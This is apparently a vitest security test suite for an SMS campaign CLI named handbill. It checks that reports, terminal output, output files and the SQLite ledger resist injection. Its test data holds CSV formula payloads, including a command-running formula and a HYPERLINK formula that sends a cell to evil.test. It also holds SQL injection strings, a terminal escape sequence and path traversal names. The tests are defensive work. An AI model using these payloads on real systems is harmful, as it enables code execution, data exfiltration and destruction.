import { existsSync, lstatSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { DatabaseSync } from 'node:sqlite';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Ran, startTarget, type Target } from '../fuzz/target.ts';
import { createProject, type TestProject } from '../helpers/project.ts';
import { answer, type RawRequest, type RawServer, startRawServer } from '../helpers/raw-server.ts';
import { numberOf } from '../oracle/scene.ts';
import { CHOSEN, PRINTABLE } from './payloads.ts';

let target: Target;
let server: RawServer;
let says = '';
beforeAll(async () => {
  // Where fsync costs nothing: each command makes a ledger or writes to one.
  if (existsSync('/dev/shm')) process.env['TMPDIR'] = '/dev/shm';
  target = startTarget();
  server = await startRawServer({ behaviour: (request) => refusing(request) });
});
afterAll(async () => {
  await target[Symbol.asyncDispose]();
  await server.close();
});

/** Takes the first message, refuses all others with what the test says, and gives that as an id, too. */
function refusing(request: RawRequest): void {
  const first = request.body.includes(numberOf(0));
  // An error in a 2xx would be a refusal.
  const said = first ? { id: says } : { id: says, error: { message: says } };
  answer(first ? 202 : 400, JSON.stringify(said))(request);
}

const SEND = ['send', 'campaign.yaml', '--env', 'test', '--yes'];

interface Where {
  /** In the column that identifies the recipient, and in the text. */
  readonly key?: string;
  readonly name?: string;
  readonly occurrence?: string;
}

const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** A project with the payload wherever a user or another person could have put it. */
function projectWith(payload: string, where: Where = {}): TestProject {
  const rows = [0, 1, 2].map((row) =>
    [numberOf(row), `${where.key ?? 'k'}${row}`, where.name ?? 'Ana'].map(cell).join(','),
  );
  const quoted = JSON.stringify(payload);
  return createProject({
    'handbill.yaml': `environments:\n  test:\n    baseUrl: http://127.0.0.1:${server.port}\n    apiKey: { env: HANDBILL_API_KEY }\n`,
    'campaign.yaml': `name: proof\nchannel: sms\nfrom: Riverside\ntemplate: { text: "Hi {{name}}" }\nrecipients: { csv: people.csv, key: id }\nmetaData: { note: ${quoted} }\n`,
    'people.csv': `msisdn,id,name\n${rows.join('\n')}\n`,
  });
}

async function run(project: TestProject, args: readonly string[]): Promise<Ran> {
  const ran = await target.run({ cwd: project.root, args, env: { HANDBILL_API_KEY: 'SEKRET-5f0e9a1c7b3d' } });
  expect([args, ran.stderr, ran.status]).not.toEqual([args, ran.stderr, 1]);
  return ran;
}

const FORMULAS: readonly (readonly [string, string])[] = [
  ['=', '=1+1'],
  ['= with a command', "=cmd|' /C calc'!A0"],
  ['= with an address', '=HYPERLINK("http://evil.test?x="&A1,"click")'],
  ['+', '+1+cmd'],
  ['-', '-2+3'],
  ['@', '@SUM(1+1)'],
  ['TAB', '\t=1+1'],
  ['CR', '\r=1+1'],
  ['LF', '\n=1+1'],
  ['full-width =', '＝1+1'],
  ['full-width +', '＋1'],
  ['full-width -', '－2'],
  ['full-width @', '＠x'],
  ['a quote that is there already', "'=1+1"],
  ['two of them', "''=1+1"],
];
const DANGEROUS = /^[=+\-@\t\r\n\0＝＋－＠]/;

describe('csv', () => {
  it('no cell of a report or a list of suppressions begins like a formula, and it reads back (S20)', async () => {
    says = '=cmd()';
    using project = projectWith('x');
    const payloads = FORMULAS.map(([, payload]) => payload);
    const rows = payloads.map((payload, row) => [numberOf(row), payload, payload].map(cell).join(','));
    project.write('people.csv', `msisdn,id,name\n${rows.join('\n')}\n`);
    const keys = await keysOf(project, ['preview', 'campaign.yaml']);
    // Not all that begins like a formula is changed: a quote in front is what spreadsheets and handbill put there.
    expect(keys.filter((key) => DANGEROUS.test(key) || key.startsWith("'")).length).toBeGreaterThanOrEqual(12);
    await run(project, SEND);
    await run(project, ['report', '--format', 'csv', '-o', 'results.csv']);
    const cells: string[][] = parse(readFileSync(project.path('results.csv')));
    expect(cells).toHaveLength(payloads.length + 1);
    for (const value of cells.flat()) expect(value).not.toMatch(DANGEROUS);
    // handbill reads its own report as a list: the keys and the numbers are what they were.
    const list = readFileSync(project.path('campaign.yaml'), 'utf8').replace('key: id', 'key: key, to: to');
    project.write('again.yaml', list.replace('{{name}}', '{{key}}').replace('name: proof', 'name: again'));
    expect(await keysOf(project, ['preview', 'again.yaml', '--recipients', 'results.csv'])).toEqual(keys);

    for (const [row, payload] of payloads.entries()) {
      await run(project, ['suppress', 'add', numberOf(row), '--reason', payload]);
    }
    const suppressed: string[][] = parse((await run(project, ['suppress', 'list', '--format', 'csv'])).stdout);
    expect(suppressed).toHaveLength(payloads.length + 1);
    for (const value of suppressed.flat()) expect(value).not.toMatch(DANGEROUS);
  });

  async function keysOf(project: TestProject, args: readonly string[]): Promise<readonly string[]> {
    const { stdout } = await run(project, [...args, '--format', 'jsonl']);
    const decisions = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { key: string; to: string });
    expect(decisions.map(({ to }) => to)).toEqual(decisions.map((_, row) => numberOf(row)));
    return decisions.map(({ key }) => key);
  }
});

/** Every command whose output is text for eyes. */
const TEXTS: readonly (readonly string[])[] = [
  ['validate', 'campaign.yaml'],
  ['preview', 'campaign.yaml', '--env', 'test'],
  SEND,
  ['report'],
  ['report', '--format', 'html'],
  ['runs'],
  ['doubt', 'list'],
  ['suppress', 'list', '--full'],
];

describe('a terminal', () => {
  it.each(CHOSEN)('obeys nothing of what is in a list, a campaign or an answer: %s (S21)', async (_, payload) => {
    says = payload;
    using project = projectWith(payload, { key: payload.replace(/\r/g, ''), name: payload.replace(/\r/g, '') });
    await run(project, ['suppress', 'add', '+447400100009', '--reason', payload]);
    for (const args of TEXTS) expectPrintable(args, await run(project, args));
  });

  it.each(CHOSEN)('nor of what is in arguments, names of files and wrong files: %s (S21)', async (_, payload) => {
    says = 'x';
    using project = projectWith('x');
    const name = payload.replaceAll('/', '_');
    mkdirSync(project.path(name));
    for (const file of ['campaign.yaml', 'people.csv', 'handbill.yaml']) {
      project.write(`${name}/${file}`, readFileSync(project.path(file)));
    }
    project.write(`${name}/broken.yaml`, `name: broken\nchannel: ${payload}\n${payload}: 1\nfrom: "${payload}`);
    project.write(`${name}/bad.csv`, `msisdn,id,name\n${payload},1,x\n+447400100001,"${payload},x\n`);
    const lines = [
      ...TEXTS.map((args) => args.map((arg) => (arg === 'campaign.yaml' ? `${name}/campaign.yaml` : arg))),
      ['validate', `${name}/broken.yaml`],
      ['validate', `${name}/campaign.yaml`, '--recipients', `${name}/bad.csv`],
      ['validate', `${name}/none.yaml`],
      ['send', payload],
      ['send', 'campaign.yaml', '--env', payload],
      ['preview', 'campaign.yaml', '--occurrence', payload],
      [...SEND, '--occurrence', payload],
      ['report', payload],
      ['report', 'proof', '-o', `${name}/no/report.csv`],
      ['report', '--ledger', `${name}/no.db`],
      ['plan', 'campaign.yaml', '-o', `${name}/plan.json`],
      ['send', '--plan', `${name}/broken.yaml`],
      ['runs'],
      ['report'],
      ['doubt', 'list'],
      [payload],
      ['send', payload, payload],
      ['validate', '--format', payload],
      ['suppress', 'add', payload],
    ];
    for (const args of lines) expectPrintable(args, await run(project, args));
  });

  it('obeys nothing of a ledger’s folder that fails (S21)', async () => {
    says = 'x';
    using project = projectWith('x');
    const folder = project.path('\u001b]0;owned\u0007');
    mkdirSync(folder, { mode: 0o700 });
    writeFileSync(`${folder}/ledger.db`, 'no ledger', { mode: 0o600 });
    mkdirSync(`${folder}/locked`, { mode: 0o700 });
    writeFileSync(`${folder}/locked/locks`, '');
    for (const ledger of ['ledger.db', 'locked/ledger.db', 'none/ledger.db']) {
      for (const args of [SEND, ['report'], ['runs']]) {
        expectPrintable([...args, ledger], await run(project, [...args, '--ledger', `${folder}/${ledger}`]));
      }
    }
  });

  function expectPrintable(args: readonly string[], { stdout, stderr }: Ran): void {
    expect([args, stdout.replace(PRINTABLE, '')]).toEqual([args, '']);
    expect([args, stderr.replace(PRINTABLE, '')]).toEqual([args, '']);
  }
});

describe('lines', () => {
  it.each([
    ['a forged record', 'x\n{"outcome":"accepted","level":"error"}'],
    ['a CR LF', 'x\r\n{"outcome":"accepted"}\r\n'],
    ['the end of a document', '"}]}\n{"version":1}'],
    ['line separators', 'x\u2028{"outcome":"accepted"}\u2029'],
    ['NUL and DEL', 'x\u0000y\u007f'],
  ])('data adds no line and no document: %s (S22)', async (_, payload) => {
    says = payload;
    using project = projectWith(payload.replace(/[\0\x7f]/g, ''), {
      key: payload.replace(/[\0\r]/g, ''),
      name: payload.replace(/[\0\r]/g, ''),
    });
    const lines = async (...args: string[]): Promise<readonly unknown[]> => {
      const { stdout } = await run(project, args);
      return stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as unknown);
    };
    const one = async (...args: string[]): Promise<unknown> => JSON.parse((await run(project, args)).stdout) as unknown;
    expect(await lines('preview', 'campaign.yaml', '--format', 'jsonl')).toHaveLength(3);
    expect(await one('preview', 'campaign.yaml', '--format', 'json')).toHaveProperty('decisions.length', 3);
    expect(await one(...SEND, '--format', 'json')).toMatchObject({
      totals: { recipients: 3, accepted: 1, rejected: 2 },
    });
    expect(await lines('report', '--format', 'jsonl')).toHaveLength(3);
    expect(await one('report', '--format', 'json')).toHaveProperty('campaign', 'proof');
    expect(await one('runs', '--format', 'json')).toHaveProperty('runs.length', 1);
    expect(parse((await run(project, ['report', '--format', 'csv'])).stdout)).toHaveLength(4);
    await run(project, ['suppress', 'add', '+447400100009', '--reason', payload.replaceAll('\0', '')]);
    expect(await one('suppress', 'list', '--format', 'json')).toHaveProperty('suppressions.length', 1);
    project.write('campaign.yaml', `name: ${JSON.stringify(payload)}\n${JSON.stringify(payload)}: 1\n`);
    expect(await one('validate', 'campaign.yaml', '--format', 'json')).toHaveProperty('diagnostics.length');
  });
});

describe('files that are written', () => {
  const WRITERS: readonly (readonly string[])[] = [
    ...['text', 'json', 'jsonl', 'csv', 'html'].map((format) => ['report', '--format', format]),
    ...['text', 'json', 'jsonl'].map((format) => ['preview', 'campaign.yaml', '--format', format]),
    ['plan', 'campaign.yaml'],
  ];

  it.each(WRITERS)(
    'a link in the place of the output is refused, its target stays: %s %s %s (S25)',
    async (...args) => {
      says = 'x';
      using project = projectWith('x');
      await run(project, SEND);
      project.write('precious', 'keep me');
      symlinkSync('precious', project.path('out'));
      symlinkSync('nowhere', project.path('dangling'));
      for (const out of ['out', 'dangling']) {
        const { status, stderr } = await run(project, [...args, '-o', out]);
        expect(stderr).toContain('error[output-exists]');
        expect(status).toBe(2);
        expect(lstatSync(project.path(out)).isSymbolicLink()).toBe(true);
      }
      expect(readFileSync(project.path('precious'), 'utf8')).toBe('keep me');
      expect(existsSync(project.path('nowhere'))).toBe(false);
      const { status, stderr } = await run(project, [...args, '-o', 'fine']);
      expect(status).toBe(0);
      expect(stderr).toMatch(/^Written: fine \([0-9,]+ bytes\)$/m);
      expect(lstatSync(project.path('fine')).mode & 0o777).toBe(0o600);
    },
  );

  it.each(['../../x', '..', 'a/b', '/etc/x', 'A', 'a b', 'x\u0000', '-x', ''])(
    'a campaign cannot be called %j (S25)',
    async (name) => {
      using project = projectWith('x');
      const file = readFileSync(project.path('campaign.yaml'), 'utf8');
      project.write('campaign.yaml', file.replace('name: proof', `name: ${JSON.stringify(name)}`));
      const before = [...project.contents().keys()];
      const { status, stderr } = await run(project, SEND);
      expect(stderr).toContain('campaign.yaml:1:');
      expect(status).toBe(2);
      expect([...project.contents().keys()]).toEqual(before);
    },
  );

  it.each(['../../x', '/etc/x', 'a/../../b', '..', 'x'.repeat(5_000)])(
    'an occurrence names no file: %j (S25)',
    async (name) => {
      says = 'x';
      using project = projectWith('x');
      await run(project, [...SEND, '--occurrence', name]);
      const files = [...project.contents().keys()].map((file) => file.slice(project.root.length));
      const expected =
        /^\/(?:handbill\.yaml|campaign\.yaml|people\.csv|\.handbill\/(?:ledger\.db.*|\.ledger\.db\.marker)|\.handbill\/locks\/[0-9a-f]{32}\.db)$/;
      expect(files.filter((file) => !expected.test(file))).toEqual([]);
    },
  );
});

describe('the ledger', () => {
  it.each([
    "'); drop table recipients;--",
    "' OR '1'='1",
    '"; DELETE FROM runs; --',
    "x'||(SELECT group_concat(sql) FROM sqlite_schema)||'",
    '%_?1:a$b',
  ])('text is data in every field: %s (S28)', async (payload) => {
    says = payload;
    using project = projectWith(payload, { key: payload, name: payload });
    await run(project, ['suppress', 'add', '+447400100009', '--reason', payload]);
    await run(project, [...SEND, '--occurrence', payload]);
    const { stdout } = await run(project, ['report', '--format', 'jsonl']);
    const rows = stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(rows.map(({ key }) => key)).toEqual([0, 1, 2].map((row) => `${payload}${row}`));
    expect(rows[0]).toMatchObject({ outcome: 'accepted', messageId: payload });
    expect((await run(project, ['report', payload])).status).toBe(2);
    expect((await run(project, ['suppress', 'list', '--format', 'csv'])).stdout).toContain('447400100009');
    const db = new DatabaseSync(project.path('.handbill/ledger.db'), { readOnly: true });
    expect(db.prepare('PRAGMA integrity_check').get()).toEqual({ integrity_check: 'ok' });
    expect(db.prepare('SELECT count(*) AS n, sum(error = ?) AS said FROM recipients').get(payload)).toEqual({
      n: 3,
      said: 2,
    });
    expect(db.prepare('SELECT reason FROM suppressions').all()).toEqual([{ reason: payload }]);
    expect(db.prepare('SELECT occurrence FROM runs').all()).toEqual([{ occurrence: payload }]);
    db.close();
  });
});
